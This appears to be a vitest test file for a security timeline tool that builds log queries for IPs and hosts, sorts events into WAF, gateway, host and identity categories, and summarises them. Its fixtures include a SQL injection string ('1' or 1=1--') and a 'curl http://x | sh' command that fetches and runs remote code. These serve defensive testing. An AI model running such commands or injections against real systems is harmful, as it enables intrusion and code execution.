import { describe, expect, it } from 'vitest';
import { categoryOf, countByCategory, guessKind, investigateHref, summaryOf, targetQuery } from './timeline.js';

const waf = { event: { dataset: 'bulwark.gateway', kind: 'alert' }, rule: { id: 'waf:942100', name: 'SQL injection' }, http: { request: { method: 'GET' }, response: { status_code: 403 } }, url: { original: "/?id=1' or 1=1--" } };
const access = { event: { dataset: 'bulwark.gateway', kind: 'event' }, url: { path: '/login' }, http: { request: { method: 'POST' }, response: { status_code: 200 } } };
const ssh = { event: { dataset: 'agent.ssh', action: 'ssh-login', outcome: 'failure' }, user: { name: 'root' }, message: 'Failed password for root' };
const proc = { event: { dataset: 'agent.process' }, process: { command_line: 'curl http://x | sh' } };
const signin = { event: { dataset: 'bulwark.audit', action: 'ConsoleSignin' }, user: { name: 'alice' } };

describe('backtracking timeline', () => {
  it('builds the query for an address or a host', () => {
    expect(guessKind('203.0.113.9')).toBe('ip');
    expect(guessKind('2001:db8::1')).toBe('ip');
    expect(guessKind('web-1')).toBe('host');
    expect(targetQuery('ip', ' 203.0.113.9 ')).toBe('source.ip:203.0.113.9 OR destination.ip:203.0.113.9 OR host.ip:203.0.113.9');
    expect(targetQuery('host', 'web 1')).toBe('host.id:"web 1" OR host.name:"web 1" OR host.hostname:"web 1"');
  });

  it('groups WAF, gateway, host, identity and other events and says what happened', () => {
    expect([waf, access, ssh, proc, signin, { message: 'x' }].map(categoryOf)).toEqual(['waf', 'gateway', 'host', 'host', 'identity', 'other']);
    expect(summaryOf(waf)).toBe("GET /?id=1' or 1=1-- 403 · SQL injection");
    expect(summaryOf(access)).toBe('POST /login 200');
    expect(summaryOf(proc)).toBe('curl http://x | sh');
    expect(summaryOf(ssh)).toBe('Failed password for root');
    expect(summaryOf(signin)).toBe('ConsoleSignin');
    expect(summaryOf({ message: 'hello' })).toBe('hello');
    expect(countByCategory([ssh, waf, proc, waf])).toEqual([{ category: 'waf', count: 2 }, { category: 'host', count: 2 }]);
  });

  it('links addresses and hosts of an event to their timeline', () => {
    expect(investigateHref('source.ip', '203.0.113.9')).toBe('/security/incidents?ip=203.0.113.9');
    expect(investigateHref('destination.ip', '2001:db8::1')).toBe('/security/incidents?ip=2001%3Adb8%3A%3A1');
    expect(investigateHref('host.name', 'web 1')).toBe('/security/incidents?host=web%201');
    expect(investigateHref('user.name', 'root')).toBeUndefined();
    expect(investigateHref('source.ip', '')).toBeUndefined();
  });
});
